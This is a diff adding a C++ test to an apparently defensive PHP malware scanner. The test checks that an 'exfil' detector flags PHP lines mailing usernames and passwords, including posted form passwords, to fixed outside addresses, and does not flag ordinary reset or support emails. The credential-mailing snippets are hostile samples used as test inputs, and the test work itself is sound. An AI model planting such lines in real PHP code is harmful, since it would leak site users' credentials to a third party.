@@ -172,5 +172,19 @@ TEST(Behaviour, OwnDecoderFunctionsAndWindowsShellObjects) {
   EXPECT_LT(Pipeline("<?php $w = new COM('Word.Application'); $w->Visible = 1;", "exec"), 3);
 }
 
+TEST(Behaviour, PasswordsMailedToAFixedAddress) {
+  EXPECT_GE(Strongest(Php("<?php mail('collector@example.net', 'login', 'user ' . $username ."
+                          " ' pass ' . $password);"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Php("<?php mail(\"a@example.net\", 'x', $_POST['pass']);"), "exfil"), 3);
+  // A password reset sent to the account's own address is what every shop does.
+  EXPECT_EQ(Strongest(Php("<?php mail($user_email, 'Your new password', 'It is ' . $password);"),
+                      "exfil"),
+            0);
+  // A fixed support address with no credential in the message is not it either.
+  EXPECT_EQ(Strongest(Php("<?php mail('support@example.net', 'Order', $summary);"), "exfil"), 0);
+}
+
 }  // namespace
 }  // namespace tq::webroot
